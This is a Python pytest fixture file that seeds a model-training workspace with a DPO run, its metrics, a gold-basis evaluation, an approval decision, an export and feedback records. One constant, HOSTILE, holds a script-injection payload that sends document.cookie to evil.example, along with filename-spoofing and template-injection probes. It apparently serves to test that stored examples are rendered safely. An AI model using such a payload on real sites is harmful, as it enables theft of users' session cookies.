"""A home with one complete turn in it: rows as the stages store them, with figures as a real run
gives them."""

from __future__ import annotations

import json
import math
import random
from dataclasses import asdict
from pathlib import Path
from typing import Any

import pytest

from tests.models.tiny_models import pair_files, record
from thumbwheel.db.schema import (
    datasets,
    decisions,
    evaluations,
    exports,
    feedback,
    feedback_targets,
    messages,
    runs,
    subjects,
    traces,
)
from thumbwheel.db.workspace import Workspace
from thumbwheel.evaluation.policy import GatePolicy
from thumbwheel.evaluation.types import EvaluationConfig
from thumbwheel.export.types import Parity, ParityLimits
from thumbwheel.models import versions
from thumbwheel.models.artifacts import Artifacts
from thumbwheel.models.types import Basis, ModelVersion, VersionState
from thumbwheel.rewards.types import RULE
from thumbwheel.training.algorithms.dpo import DpoConfig

HOSTILE = (
    '</pre><script>fetch("//evil.example/"+document.cookie)</script><img src=x onerror=alert(1)> '
    "\u202egnp.exe\u0007 {{ 7*7 }}"
)
AGENT = "support"
PARITY = Parity(5, 200, "F32", 1e-6, 1e-9, 1.0, 0.5, True, ParityLimits(1e-4, 0.99), size=4_000_000)


def measure(name: str, before: float, after: float, half: float, n: int) -> dict[str, Any]:
    gain = after - before
    return {
        "name": name,
        "before": before,
        "after": after,
        "gain": gain,
        "low": gain - half,
        "high": gain + half,
        "level": 0.95,
        "n": n,
        "clusters": n,
        "changed": int(n * 0.3),
    }


def guard(name: str, before: float | None, after: float | None, n: int) -> dict[str, Any]:
    ends = (
        {}
        if before is None or after is None
        else {"low": after - before - 0.01, "high": after - before + 0.01}
    )
    return {"name": name, "before": before, "after": after, "n": n, **ends}


def results(candidate: ModelVersion, against: ModelVersion) -> dict[str, Any]:
    """An evaluation as stored, with hostile answers among the examples."""
    return {
        "agent": AGENT,
        "candidate_id": candidate.id,
        "candidate": candidate.name,
        "against_id": against.id,
        "against": against.name,
        "basis": "gold",
        "fresh": True,
        "primary": measure("success", 0.612, 0.801, 0.041, 620),
        "preferences": [
            measure("preference accuracy, summed log-probability", 0.52, 0.71, 0.09, 118),
            measure("preference accuracy, log-probability per token", 0.55, 0.69, 0.10, 118),
        ],
        "guards": [
            guard("eos_rate", 1.0, 0.998, 620),
            guard("format_rate", 0.995, 0.997, 620),
            guard("answer_tokens", 10.2, 10.4, 620),
            guard("nll_good", 0.82, 0.61, 118),
            guard("my_guard", None, None, 0),
        ],
        "slices": [
            measure("habit: invoices", 0.12, 0.88, 0.10, 110),
            measure("habit: newsletters", 0.31, 0.86, 0.12, 96),
            measure("common rules", 0.97, 0.965, 0.02, 414),
        ],
        "examples": [
            {
                "case": "cas_1",
                "prompt": "From: billing@hosting.example\nSubject: Invoice 4711\n\nYour invoice is "
                "attached.",
                "reference": {"folder": "money", "keep": True},
                "before": '{"folder": "inbox", "keep": true}',
                "after": '{"folder": "money", "keep": true}',
                "value_before": 0.0,
                "value_after": 1.0,
            },
            {
                "case": "cas_2",
                "prompt": HOSTILE,
                "reference": HOSTILE,
                "before": HOSTILE,
                "after": "x" * 9000,
                "value_before": 1.0,
                "value_after": 0.0,
            },
        ],
        "reads": 1,
        "detectable": 0.045,
        "dropped": {"recorded answer does not fit the model": 2},
        "notes": ["620 items in 611 groups"],
        "rows": "r" * 64,
        "key": "k" * 64,
    }


def metric_lines(steps: int = 60, every: int = 6) -> list[dict[str, Any]]:
    """What a DPO run writes."""
    rng, lines = random.Random(3), []
    for step in range(steps + 1):
        done = step / steps
        margin = 2.4 * (1 - math.exp(-3 * done))
        if step:
            noise = rng.gauss(0, 0.15)
            lines.append(
                {
                    "step": step,
                    "epoch": 2 * done,
                    "loss": 0.69 * math.exp(-margin / 2) + noise * 0.2,
                    "grad_norm": 1.0,
                    "rewards/margins": margin + noise,
                    "rewards/accuracies": min(1.0, 0.5 + margin / 5 + noise / 4),
                    "nll/good": 0.82 - 0.2 * done + noise / 20,
                    "step_seconds": 0.4,
                }
            )
        if step % every == 0:
            lines.append(
                {
                    "step": step,
                    "epoch": 2 * done,
                    "eval_loss": 0.69 * math.exp(-margin / 2.6) + max(0, done - 0.7) * 0.1,
                    "eval_rewards/margins": margin * 0.85,
                    "eval_rewards/accuracies": 0.5 + margin / 7,
                    "eval_nll/good": 0.82 - 0.19 * done,
                    "eval_format_rate": 1.0,
                    "eval_eos_rate": 1.0,
                }
            )
    return lines


@pytest.fixture
def turn(empty_ws: Workspace, tmp_path: Path) -> ModelVersion:
    """v1 over v0: trained, evaluated on gold, approved, exported."""
    base = versions.ensure_base(empty_ws, AGENT, "/models/filer-base", "ab" * 32)
    (adapter := tmp_path / "adapter").mkdir()
    (adapter / "adapter_model.safetensors").write_bytes(b"weights")
    manifest = {
        "files": pair_files(Artifacts.of(empty_ws), tmp_path),
        "counts": {"train": 3, "dev": 2, "gate": 1},
        "drops": {"answer equals the correction": 4},
        "notes": {"answers with disagreeing raters": 9, "answers with different corrections": 0},
        "rule": RULE,
        "fitted": {},
        "config": {},
        "warnings": [
            "the better answer is the longer one in 81% of the pairs; the model may learn length "
            "instead"
        ],
        "watermark": {"feedback": 6, "recorded_at": None},
    }
    dataset = record(
        empty_ws,
        datasets,
        AGENT,
        id="dst_pairs",
        shape="pairs",
        manifest=manifest,
        fingerprint="cd" * 32,
    )
    config = DpoConfig(learning_rate=5e-5, beta=0.2, seed=7).model_dump(mode="json")
    environment = {"python": "3.11.7", "torch": "2.13.0", "platform": "Linux", "cpus": 2}
    run = record(
        empty_ws,
        runs,
        AGENT,
        id="run_1",
        algorithm="dpo",
        dataset_id=dataset,
        base=base.base,
        base_fingerprint=base.base_fingerprint,
        config=config,
        environment=environment,
        seed=7,
        state="finished",
        metrics={},
    )
    folder = empty_ws.home.runs / run
    folder.mkdir(parents=True)
    (folder / "metrics.jsonl").write_text(
        "".join(json.dumps(line) + "\n" for line in metric_lines())
    )
    version = versions.add_candidate(empty_ws, base, run, adapter)
    judged(empty_ws, version, base)
    record(
        empty_ws,
        exports,
        AGENT,
        version_id=version.id,
        format="merged",
        path="/models/support-v1",
        files={},
        parity=asdict(PARITY),
    )
    return versions.move(empty_ws, version, VersionState.APPROVED, Basis.GOLD)


def judged(ws: Workspace, row: ModelVersion, base: ModelVersion) -> None:
    evaluation = record(
        ws,
        evaluations,
        AGENT,
        id="evl_1",
        candidate_id=row.id,
        against_id=base.id,
        basis="gold",
        config=EvaluationConfig().model_dump(mode="json"),
        results=results(row, base),
    )
    reasons = ["success gains +18.9 points, at least +14.8 points with 95 % confidence"]
    record(
        ws,
        decisions,
        AGENT,
        id="dec_1",
        version_id=row.id,
        evaluation_id=evaluation,
        decision="approved",
        reasons=reasons,
        policy=GatePolicy().model_dump(mode="json"),
        inputs={key: results(row, base)[key] for key in ("guards", "detectable")},
    )


@pytest.fixture
def recorded(empty_ws: Workspace, turn: ModelVersion) -> None:
    """The traces and the feedback that the dataset's rows name."""
    record(empty_ws, messages, AGENT, id="msg_1", role="user", content={"content": "Question?"})
    for n in range(2):
        record(empty_ws, subjects, AGENT, id=f"sub_{n}", external_id=f"person {n}")
    for n in [*range(6), 99]:
        record(
            empty_ws,
            traces,
            AGENT,
            id=f"trc_{n}",
            source="jsonl",
            external_id=f"t{n}",
            input_id="msg_1",
        )
        record(
            empty_ws,
            feedback,
            AGENT,
            id=f"fbk_{n}",
            source="jsonl",
            external_id=f"f{n}",
            kind="thumb",
            value=True,
        )
        record(
            empty_ws,
            feedback_targets,
            AGENT,
            feedback_id=f"fbk_{n}",
            external_id=f"t{n}",
            target_id=f"trc_{n}",
            kind="trace",
        )
